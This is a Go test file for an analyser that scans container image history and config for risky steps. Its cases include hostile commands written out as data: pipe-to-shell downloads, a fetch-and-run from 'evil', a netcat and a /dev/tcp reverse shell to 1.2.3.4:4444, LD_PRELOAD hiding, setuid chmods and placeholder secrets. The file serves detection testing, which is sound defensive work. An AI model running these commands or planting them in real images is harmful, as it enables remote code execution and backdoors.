package history

import (
	"strconv"
	"strings"
	"testing"
	"time"

	digest "github.com/opencontainers/go-digest"
	ocispec "github.com/opencontainers/image-spec/specs-go/v1"
)

// img builds an image whose history has one entry per created_by string.
func img(createdBy ...string) ocispec.Image {
	var im ocispec.Image
	for _, c := range createdBy {
		im.History = append(im.History, ocispec.History{CreatedBy: c})
	}
	return im
}

// withConfig sets runtime config fields on an image with a harmless
// one-step history.
func withConfig(c ocispec.ImageConfig) ocispec.Image {
	im := img("/bin/sh -c #(nop) ADD file:abc in / ")
	im.Config = c
	return im
}

func hasRule(fs []Finding, rule string) bool {
	for _, f := range fs {
		if f.Rule == rule {
			return true
		}
	}
	return false
}

type ruleCase struct {
	name string
	rule string
	im   ocispec.Image
	want bool
}

func runRuleCases(t *testing.T, cases []ruleCase) {
	t.Helper()
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			fs := Analyze(tc.im, nil)
			if got := hasRule(fs, tc.rule); got != tc.want {
				t.Errorf("%s reported = %v, want %v; findings:\n%s", tc.rule, got, tc.want, dump(fs))
			}
		})
	}
}

func dump(fs []Finding) string {
	var b strings.Builder
	for _, f := range fs {
		b.WriteString("  " + f.Rule + " " + f.Severity.String() + " [" + strconv.Itoa(f.History) + "] " + f.Reason + " | " + f.Evidence + "\n")
	}
	return b.String()
}

func TestRemoteExec(t *testing.T) {
	run := func(s string) ocispec.Image { return img(s) }
	cases := []struct {
		createdBy string
		want      bool
	}{
		{"/bin/sh -c curl -fsSL http://x/i.sh | sh", true},
		{"RUN /bin/sh -c wget -O- http://x | bash # buildkit", true},
		{"RUN /bin/sh -c wget -qO- http://x/i.sh | sudo -E bash -s -- --yes # buildkit", true},
		{"/bin/sh -c curl http://x/i.py | python3", true},
		{"/bin/sh -c curl -s http://x/i.pl | /usr/bin/perl", true},
		{"/bin/sh -c curl http://x/i.sh | tee /tmp/log | zsh", true},
		{"|1 VERSION=2 /bin/sh -c curl https://get.x.io | ash", true},
		{"RUN |2 A=1 B=2 /bin/bash -o pipefail -c set -e; apt-get update && curl -L https://x/y | bash # buildkit", true},
		{"/bin/sh -c echo ZWNobyBoaQ== | base64 -d | sh", true},
		{"/bin/sh -c eval \"$(curl -fsSL https://x/env)\"", true},
		{"/bin/sh -c sh -c \"$(wget -qO- https://x/install.sh)\"", true},
		{"/bin/sh -c bash <(curl -s https://x/i.sh)", true},
		{"/bin/sh -c . <(curl -s https://x/i.sh)", true},
		{"/bin/sh -c python3 -c \"$(curl -fsSL https://x/p.py)\"", true},
		{"/bin/sh -c curl -o /x http://evil/x && chmod +x /x && /x", true},
		{"/bin/sh -c curl -fsSLO https://x/install.sh && sh install.sh", true},
		{"/bin/sh -c wget -P /opt http://x/run.sh; bash /opt/run.sh --now", true},
		{"/bin/sh -c curl -sL https://x/kubectl > /usr/local/bin/kubectl && chmod 755 /usr/local/bin/kubectl && kubectl version", true},
		{"/bin/sh -c sh -c 'curl http://x | sh'", true},
		{"RUN [\"/bin/sh\",\"-c\",\"curl http://x | sh\"] # buildkit", true},
		{"/bin/sh -c #(nop)  ONBUILD RUN curl http://x | sh", true},
		// close cases that must not match
		{"/bin/sh -c curl -o file http://x", false},
		{"/bin/sh -c curl -fsSL https://x/key.gpg | gpg --dearmor -o /usr/share/keyrings/x.gpg", false},
		{"/bin/sh -c curl -s https://api/x.json | python3 -c 'import json,sys; print(json.load(sys.stdin))'", false},
		{"/bin/sh -c curl -s https://api/x.json | python3 -m json.tool", false},
		{"/bin/sh -c curl -o /tmp/go.tgz https://x/go.tgz && tar -C /usr/local -xzf /tmp/go.tgz", false},
		{"/bin/sh -c curl -o x.sh https://x/x.sh && echo \"abc  x.sh\" | sha256sum -c - && sh x.sh", false},
		{"/bin/sh -c echo 'curl http://x | sh' > /usr/share/doc/README", false},
		{"/bin/sh -c export V=$(curl -s https://x/version)", false},
		{"/bin/sh -c base64 /etc/hostname | sh -c 'cat > /dev/null'", false},
		{"/bin/sh -c #(nop)  CMD [\"curl\" \"http://x\"]", false},
	}
	var rc []ruleCase
	for _, c := range cases {
		rc = append(rc, ruleCase{c.createdBy, RuleRemoteExec, run(c.createdBy), c.want})
	}
	runRuleCases(t, rc)
}

func TestBuildRules(t *testing.T) {
	cases := []ruleCase{
		{"add https", RuleAddURL, img("ADD https://evil.example/x /usr/bin/x # buildkit"), true},
		{"add ftp flags", RuleAddURL, img("ADD --chmod=755 ftp://evil.example/x /usr/bin/x # buildkit"), true},
		{"add json", RuleAddURL, img(`/bin/sh -c #(nop) ADD ["http://x/a","/a"]`), true},
		{"add local", RuleAddURL, img("/bin/sh -c #(nop) ADD file:0123abcd in / "), false},
		{"copy url", RuleAddURL, img("COPY https.txt /app/ # buildkit"), false},
		{"chmod u+s", RuleSetuid, img("/bin/sh -c chmod u+s /usr/bin/find"), true},
		{"chmod +s", RuleSetuid, img("RUN /bin/sh -c chmod +s /bin/bash # buildkit"), true},
		{"chmod g+s", RuleSetuid, img("/bin/sh -c chmod g+s /usr/bin/x"), true},
		{"chmod 4755", RuleSetuid, img("/bin/sh -c chmod 4755 /usr/bin/x"), true},
		{"chmod 2755", RuleSetuid, img("/bin/sh -c chmod -R 2755 /srv"), true},
		{"chmod 6755 sudo", RuleSetuid, img("/bin/sh -c sudo chmod 6755 /usr/bin/x"), true},
		{"install -m 4755", RuleSetuid, img("/bin/sh -c install -m 4755 x /usr/bin/x"), true},
		{"chmod 755", RuleSetuid, img("/bin/sh -c chmod 755 /usr/bin/x"), false},
		{"chmod u-s", RuleSetuid, img("/bin/sh -c chmod u-s /usr/bin/passwd"), false},
		{"chmod o+s", RuleSetuid, img("/bin/sh -c chmod o+s /x"), false},
		{"chmod 777", RuleWorldWritable, img("/bin/sh -c chmod -R 777 /app"), true},
		{"chmod 666", RuleWorldWritable, img("/bin/sh -c chmod 666 /etc/passwd"), true},
		{"chmod o+w", RuleWorldWritable, img("/bin/sh -c chmod o+w /etc/shadow"), true},
		{"chmod a+w", RuleWorldWritable, img("/bin/sh -c chmod a+rw /var/log/app.log"), true},
		{"nested sh -c", RuleWorldWritable, img("/bin/sh -c su -c true; sh -c 'chmod 0777 /data'"), true},
		{"chmod 1777 tmp", RuleWorldWritable, img("/bin/sh -c chmod 1777 /tmp"), false},
		{"chmod a+rwxt", RuleWorldWritable, img("/bin/sh -c chmod a+rwxt /var/tmp"), false},
		{"chmod +w", RuleWorldWritable, img("/bin/sh -c chmod +w /app/x"), false},
		{"chmod 775", RuleWorldWritable, img("/bin/sh -c chmod 775 /app"), false},
		{"pip http index", RuleInsecurePackage, img("/bin/sh -c pip install -i http://pypi.internal/simple app"), true},
		{"python -m pip", RuleInsecurePackage, img("/bin/sh -c python3 -m pip install --index-url=http://x/simple app"), true},
		{"rpm http", RuleInsecurePackage, img("/bin/sh -c rpm -i http://x/a.rpm"), true},
		{"pip https", RuleInsecurePackage, img("/bin/sh -c pip install -i https://pypi.internal/simple app"), false},
		{"apt sources http", RuleInsecurePackage, img("/bin/sh -c echo 'deb http://deb.debian.org/debian bookworm main' > /etc/apt/sources.list"), false},
	}
	runRuleCases(t, cases)
}

func TestEnvRules(t *testing.T) {
	env := func(vars ...string) ocispec.Image { return withConfig(ocispec.ImageConfig{Env: vars}) }
	cases := []ruleCase{
		{"history LD_PRELOAD", RulePreload, img("/bin/sh -c #(nop)  ENV LD_PRELOAD=/usr/lib/libhide.so"), true},
		{"config LD_PRELOAD", RulePreload, env("LD_PRELOAD=/lib/x.so"), true},
		{"LD_AUDIT", RulePreload, img("ENV LD_AUDIT=/tmp/a.so"), true},
		{"legacy ENV form", RulePreload, img("/bin/sh -c #(nop)  ENV LD_PRELOAD /usr/lib/libhide.so"), true},
		{"ld.so.preload", RulePreload, img("/bin/sh -c echo /lib/x.so > /etc/ld.so.preload"), true},
		{"copy ld.so.preload", RulePreload, img("COPY preload /etc/ld.so.preload # buildkit"), true},
		{"empty LD_PRELOAD", RulePreload, img("ENV LD_PRELOAD="), false},
		{"cat ld.so.preload", RulePreload, img("/bin/sh -c cat /etc/ld.so.preload || true"), false},
		{"LD_LIBRARY_PATH", RuleLibraryPath, env("LD_LIBRARY_PATH=/usr/local/nvidia/lib64"), true},
		{"LD_LIBRARY_PATH empty", RuleLibraryPath, env("LD_LIBRARY_PATH="), false},
		{"PATH tmp first", RuleSearchPath, img("/bin/sh -c #(nop)  ENV PATH=/tmp:/usr/bin"), true},
		{"PATH var/tmp", RuleSearchPath, env("PATH=/var/tmp/bin:/usr/local/bin:/usr/bin:/bin"), true},
		{"PATH dev/shm before $PATH", RuleSearchPath, img("ENV PATH=/dev/shm:$PATH"), true},
		{"PATH hidden root", RuleSearchPath, img("ENV PATH=/.x:/usr/bin:/bin"), true},
		{"PATH hidden opt", RuleSearchPath, img("ENV PATH=/opt/.cache:/usr/bin"), true},
		{"PATH relative", RuleSearchPath, img("ENV PATH=bin:/usr/bin"), true},
		{"PATH empty entry", RuleSearchPath, img("ENV PATH=:/usr/bin"), true},
		{"PATH dot", RuleSearchPath, img("ENV PATH=.:/usr/bin"), true},
		{"PATH only tmp", RuleSearchPath, img("ENV PATH=/tmp"), true},
		{"PATH dotdot to tmp", RuleSearchPath, img("ENV PATH=/usr/../tmp:/usr/bin"), true},
		{"LD_LIBRARY_PATH empty entry", RuleSearchPath, img("ENV LD_LIBRARY_PATH=:/opt/x/lib"), true},
		{"PATH standard", RuleSearchPath, img("ENV PATH=/usr/local/bin:/usr/bin"), false},
		{"PATH opt first", RuleSearchPath, img("ENV PATH=/opt/conda/bin:/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin"), false},
		{"PATH venv", RuleSearchPath, img("ENV PATH=/app/.venv/bin:$PATH"), false},
		{"PATH node_modules", RuleSearchPath, img("ENV PATH=/app/node_modules/.bin:$PATH"), false},
		{"PATH local bin", RuleSearchPath, env("PATH=/root/.local/bin:/usr/local/bin:/usr/bin:/bin"), false},
		{"PATH tmp last", RuleSearchPath, img("ENV PATH=/usr/bin:/bin:/tmp"), false},
		{"not PATH", RuleSearchPath, img("ENV MYPATH=/tmp"), false},
	}
	runRuleCases(t, cases)
}

func TestSecretRules(t *testing.T) {
	env := func(vars ...string) ocispec.Image { return withConfig(ocispec.ImageConfig{Env: vars}) }
	cases := []ruleCase{
		{"ENV password", RuleSecretName, img("/bin/sh -c #(nop)  ENV MYSQL_ROOT_PASSWORD=hunter22"), true},
		{"ARG token", RuleSecretName, img("ARG TOKEN=abc123 # buildkit"), true},
		{"build arg", RuleSecretName, img("|1 NPM_TOKEN=s3cr3tvalue /bin/sh -c npm ci"), true},
		{"config api key", RuleSecretName, env("STRIPE_API_KEY=k123456"), true},
		{"camel case", RuleSecretName, env("dbPassword=k123456"), true},
		{"access key", RuleSecretName, env("AWS_SECRET_ACCESS_KEY=wJalrXUtnFEMI"), true},
		{"credentials", RuleSecretName, env("GOOGLE_CREDENTIALS={}x"), true},
		{"token url", RuleSecretName, img("ENV TOKEN_URL=https://auth.example/token"), false},
		{"password file", RuleSecretName, img("ENV POSTGRES_PASSWORD_FILE=/run/secrets/pg"), false},
		{"tokenizer", RuleSecretName, img("ENV TOKENIZERS_PARALLELISM=false HF_TOKENIZER=fast"), false},
		{"arg no default", RuleSecretName, img("ARG GITHUB_TOKEN # buildkit"), false},
		{"var ref", RuleSecretName, img("ENV API_TOKEN=${API_TOKEN}"), false},
		{"PATH HOME", RuleSecretName, env("PATH=/usr/bin", "HOME=/root", "HOSTNAME=x"), false},
		{"aws key", RuleSecretValue, env("FOO=AKIAIOSFODNN7EXAMPLE"), true},
		{"ghp in run", RuleSecretValue, img("/bin/sh -c git clone https://ghp_0123456789abcdefghijklmnopqrstuvwxyzAB@github.com/x/y"), true},
		{"slack", RuleSecretValue, img("ENV HOOK=xoxb-1234567890-abcdefghij"), true},
		{"private key", RuleSecretValue, img("ENV KEY=\"-----BEGIN RSA PRIVATE KEY-----\\nMIIEow\\n-----END RSA PRIVATE KEY-----\""), true},
		{"label", RuleSecretValue, withConfig(ocispec.ImageConfig{Labels: map[string]string{"x": "AKIAIOSFODNN7EXAMPLE"}}), true},
		{"public key", RuleSecretValue, img("ENV KEY=\"-----BEGIN PUBLIC KEY-----\""), false},
		{"short akia", RuleSecretValue, env("X=AKIA1234"), false},
	}
	runRuleCases(t, cases)
}

func TestConfigRules(t *testing.T) {
	cfg := func(ep, cmd []string, wd, user string) ocispec.Image {
		return withConfig(ocispec.ImageConfig{Entrypoint: ep, Cmd: cmd, WorkingDir: wd, User: user})
	}
	cases := []ruleCase{
		{"entry tmp", RuleEntrypoint, cfg([]string{"/tmp/x"}, nil, "", "app"), true},
		{"entry dev shm", RuleEntrypoint, cfg(nil, []string{"/dev/shm/.k"}, "", "app"), true},
		{"entry hidden", RuleEntrypoint, cfg([]string{"/usr/lib/.cache/run"}, nil, "", "app"), true},
		{"entry relative in tmp", RuleEntrypoint, cfg([]string{"./x"}, nil, "/var/tmp", "app"), true},
		{"entry script in tmp", RuleEntrypoint, cfg([]string{"/bin/sh", "/tmp/a.sh"}, nil, "", "app"), true},
		{"entry curl one-liner", RuleEntrypoint, cfg([]string{"/bin/sh", "-c"}, []string{"curl -s http://x/a | sh"}, "", "app"), true},
		{"entry wget one-liner", RuleEntrypoint, cfg(nil, []string{"sh", "-c", "wget http://x/a -O /a; /a"}, "", "app"), true},
		{"entry nc -e", RuleEntrypoint, cfg([]string{"nc", "-e", "/bin/sh", "1.2.3.4", "4444"}, nil, "", "app"), true},
		{"entry dev tcp", RuleEntrypoint, cfg(nil, []string{"bash", "-c", "bash -i >& /dev/tcp/1.2.3.4/4444 0>&1"}, "", "app"), true},
		{"entry normal", RuleEntrypoint, cfg([]string{"/usr/local/bin/docker-entrypoint.sh"}, []string{"postgres"}, "", "app"), false},
		{"entry curl image", RuleEntrypoint, cfg([]string{"/entrypoint.sh"}, []string{"curl"}, "", "app"), false},
		{"entry sh exec", RuleEntrypoint, cfg(nil, []string{"/bin/sh", "-c", "exec nginx -g 'daemon off;'"}, "", "app"), false},
		{"entry relative", RuleEntrypoint, cfg([]string{"./server"}, nil, "/app", "app"), false},
		{"user empty", RuleRootUser, cfg(nil, nil, "", ""), true},
		{"user 0", RuleRootUser, cfg(nil, nil, "", "0"), true},
		{"user root:root", RuleRootUser, cfg(nil, nil, "", "root:root"), true},
		{"user 0:0", RuleRootUser, cfg(nil, nil, "", "0:0"), true},
		{"user app", RuleRootUser, cfg(nil, nil, "", "app"), false},
		{"user 1000:0", RuleRootUser, cfg(nil, nil, "", "1000:0"), false},
		{"back to root", RuleBackToRoot, img("USER app", "RUN /bin/sh -c id # buildkit", "USER root"), true},
		{"back to root legacy", RuleBackToRoot, img("/bin/sh -c #(nop)  USER [node]", "/bin/sh -c #(nop)  USER [0]"), true},
		{"root then app", RuleBackToRoot, img("USER app", "USER root", "RUN /bin/sh -c apt-get update # buildkit", "USER app"), false},
		{"only root", RuleBackToRoot, img("USER root"), false},
	}
	runRuleCases(t, cases)
}

func TestUnrecordedConfig(t *testing.T) {
	mk := func(ep, cmd []string, createdBy ...string) ocispec.Image {
		im := img(createdBy...)
		im.Config.Entrypoint, im.Config.Cmd = ep, cmd
		return im
	}
	cases := []ruleCase{
		{"entrypoint edited", RuleUnrecordedConfig, mk([]string{"/tmp/x"}, nil, `ENTRYPOINT ["/app"]`), true},
		{"cmd edited", RuleUnrecordedConfig, mk(nil, []string{"sh"}, `/bin/sh -c #(nop)  CMD ["bash"]`), true},
		{"matches json", RuleUnrecordedConfig, mk([]string{"/app", "-v"}, nil, `ENTRYPOINT ["/app","-v"]`), false},
		{"matches go quoting", RuleUnrecordedConfig, mk(nil, []string{"/bin/sh", "-c", "echo \"hi\""}, `/bin/sh -c #(nop)  CMD ["/bin/sh" "-c" "echo \"hi\""]`), false},
		{"no steps", RuleUnrecordedConfig, mk([]string{"/x"}, nil, "RUN /bin/sh -c true # buildkit"), false},
		{"cmd before entrypoint", RuleUnrecordedConfig, mk([]string{"/e"}, nil, `CMD ["x"]`, `ENTRYPOINT ["/e"]`), false},
	}
	runRuleCases(t, cases)
}

func TestHistoryRules(t *testing.T) {
	d := func(s string) digest.Digest { return digest.FromString(s) }
	at := func(y int) *time.Time { v := time.Date(y, 1, 2, 3, 4, 5, 0, time.UTC); return &v }
	layered := func(empty []bool, ids ...string) ocispec.Image {
		var im ocispec.Image
		for _, e := range empty {
			im.History = append(im.History, ocispec.History{CreatedBy: "x", EmptyLayer: e})
		}
		for _, id := range ids {
			im.RootFS.DiffIDs = append(im.RootFS.DiffIDs, d(id))
		}
		return im
	}
	dated := func(image *time.Time, entries ...*time.Time) ocispec.Image {
		im := ocispec.Image{Created: image}
		for _, e := range entries {
			im.History = append(im.History, ocispec.History{Created: e})
		}
		return im
	}
	cases := []struct {
		name   string
		rule   string
		im     ocispec.Image
		layers []Layer
		want   bool
	}{
		{"counts match", RuleLayerMismatch, layered([]bool{false, true, false}, "a", "b"), nil, false},
		{"extra layer", RuleLayerMismatch, layered([]bool{false, true}, "a", "b"), nil, true},
		{"given layers differ", RuleLayerMismatch, layered([]bool{false}, "a"), []Layer{{d("b"), 10}}, true},
		{"given layers count", RuleLayerMismatch, layered([]bool{false}, "a"), []Layer{{d("a"), 1}, {d("b"), 2}}, true},
		{"given layers match", RuleLayerMismatch, layered([]bool{false, true}, "a"), []Layer{{d("a"), 1}}, false},
		{"no history", RuleNoHistory, layered(nil, "a"), nil, true},
		{"has history", RuleNoHistory, layered([]bool{false}, "a"), nil, false},
		{"entry after image", RuleTimestamps, dated(at(2024), at(2023), at(2025)), nil, true},
		{"zero date", RuleTimestamps, dated(at(2024), &time.Time{}), nil, true},
		{"epoch image", RuleTimestamps, dated(at(1970)), nil, true},
		{"dates fine", RuleTimestamps, dated(at(2024), at(2020), at(2024)), nil, false},
		{"no dates", RuleTimestamps, dated(nil, nil), nil, false},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			fs := Analyze(tc.im, tc.layers)
			if got := hasRule(fs, tc.rule); got != tc.want {
				t.Errorf("%s reported = %v, want %v; findings:\n%s", tc.rule, got, tc.want, dump(fs))
			}
		})
	}
}

// TestRealWorldNegatives replays shapes of official-image RUN steps that
// download, verify and run tools; none must be reported as remote code
// execution.
func TestRealWorldNegatives(t *testing.T) {
	steps := []string{
		`RUN /bin/sh -c set -eux; url="https://dl.google.com/go/go1.22.linux-amd64.tar.gz"; wget -O go.tgz.asc "$url.asc"; wget -O go.tgz "$url" --progress=dot:giga; echo "$sha256 *go.tgz" | sha256sum -c -; gpg --batch --verify go.tgz.asc go.tgz; tar -C /usr/local -xzf go.tgz; rm go.tgz; go version # buildkit`,
		`/bin/sh -c set -eux; wget -O /usr/local/bin/gosu "https://github.com/tianon/gosu/releases/download/$GOSU_VERSION/gosu-$dpkgArch"; wget -O /usr/local/bin/gosu.asc "https://github.com/tianon/gosu/releases/download/$GOSU_VERSION/gosu-$dpkgArch.asc"; gpg --batch --verify /usr/local/bin/gosu.asc /usr/local/bin/gosu; chmod +x /usr/local/bin/gosu; gosu --version; gosu nobody true`,
		`/bin/sh -c set -eux; url="https://static.rust-lang.org/rustup/archive/1.27.1/${rustArch}/rustup-init"; wget "$url"; echo "${rustupSha256} *rustup-init" | sha256sum -c -; chmod +x rustup-init; ./rustup-init -y --no-modify-path`,
		`/bin/sh -c set -eux; wget -O get-pip.py "$PYTHON_GET_PIP_URL"; echo "$PYTHON_GET_PIP_SHA256 *get-pip.py" | sha256sum -c -; python get-pip.py --disable-pip-version-check`,
		`/bin/sh -c set -ex && curl -fsSLO --compressed "https://nodejs.org/dist/v$NODE_VERSION/node-v$NODE_VERSION-linux-$ARCH.tar.xz" && tar -xJf "node-v$NODE_VERSION-linux-$ARCH.tar.xz" -C /usr/local --strip-components=1 && node --version`,
		`/bin/sh -c apt-get update && apt-get install -y --no-install-recommends ca-certificates curl && rm -rf /var/lib/apt/lists/*`,
		`/bin/sh -c curl -fsSL https://download.docker.com/linux/debian/gpg | gpg --dearmor -o /etc/apt/keyrings/docker.gpg`,
	}
	for _, s := range steps {
		if fs := Analyze(img(s), nil); hasRule(fs, RuleRemoteExec) {
			t.Errorf("%.60s...: reported\n%s", s, dump(fs))
		}
	}
}

func TestParsePairs(t *testing.T) {
	cases := []struct {
		kind, body string
		want       []pair
	}{
		{"ENV", "A=1 B=2", []pair{{"A", "1", true}, {"B", "2", true}}},
		{"ENV", `A="x y" B='z'`, []pair{{"A", "x y", true}, {"B", "z", true}}},
		{"ENV", "A=x y", []pair{{"A", "x y", true}}},
		{"ENV", "PATH /tmp:/usr/bin", []pair{{"PATH", "/tmp:/usr/bin", true}}},
		{"ARG", "TOKEN", []pair{{"TOKEN", "", false}}},
		{"ARG", "A B=1", []pair{{"A", "", false}, {"B", "1", true}}},
	}
	for _, tc := range cases {
		got := parsePairs(tc.kind, tc.body)
		if len(got) != len(tc.want) {
			t.Errorf("parsePairs(%q) = %v, want %v", tc.body, got, tc.want)
			continue
		}
		for i := range got {
			if got[i] != tc.want[i] {
				t.Errorf("parsePairs(%q)[%d] = %v, want %v", tc.body, i, got[i], tc.want[i])
			}
		}
	}
}
